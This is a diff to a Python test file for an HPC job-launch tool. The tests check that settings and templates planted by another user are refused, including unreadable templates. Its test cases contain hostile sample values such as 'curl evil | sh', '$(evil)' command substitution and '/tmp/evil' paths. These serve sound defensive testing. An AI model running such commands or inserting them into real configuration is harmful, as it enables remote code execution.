@@ -11,7 +11,9 @@ from hpcddm.launch import vouching
 from hpcddm.launch.submission import store_site
 from hpcddm.launch.template import store_parts
 from hpcddm.rundir.layout import RunDir
+from hpcddm.rundir.reading import Unreadable
 from hpcddm.site import Site
+from tests.foreign_folders import spoil
 
 SITE = Site(name="north", scheduler="local", setup=["module load mine"])
 PARTS = {"slurm/start.sh.j2": "# my way to start\n"}
@@ -53,7 +55,7 @@ def test_what_this_user_submitted_needs_no_word(run):
 
 @pytest.mark.parametrize("key, value", [
     ("hook", "touch /tmp/evil"), ("setup", ["module load mine", "curl evil | sh"]), ("python", "/tmp/evil"),
-    ("container", ["/tmp/evil"]), ("scratch", "$(evil)"), ("stages", {"train": {"setup": ["evil"]}}),
+    ("container", ["/tmp/evil"]), ("scratch", "$EVIL"), ("stages", {"train": {"setup": ["evil"]}}),
 ])  # fmt: skip
 def test_a_key_that_somebody_else_wrote_is_shown_and_refused(run, capsys, key, value):
     plant(run, **{key: value})
@@ -73,6 +75,14 @@ def test_lines_of_a_planted_template_are_shown_and_refused(run, capsys):
     assert "curl evil" in stored_start("north", run, True)[1]["slurm/start.sh.j2"]
     (run.template / "start.sh.j2").unlink()
     assert stored_start("north", run, False) == (SITE, {}), "the package's is always the user's own"
+
+
+@pytest.mark.parametrize("kind", ["huge", "link", "pipe", "folder", "not UTF-8"])
+def test_a_template_of_any_kind_is_refused_by_name(run, kind):
+    spoil(run.template / "job.sbatch.j2", kind)
+    for trust_run in (False, True):
+        with pytest.raises(Unreadable, match="template/job.sbatch.j2: "):
+            stored_start("north", run, trust_run)
 
 
 def test_somebody_else_needs_a_site_file_of_the_same_keys(run, capsys, tmp_path, monkeypatch):
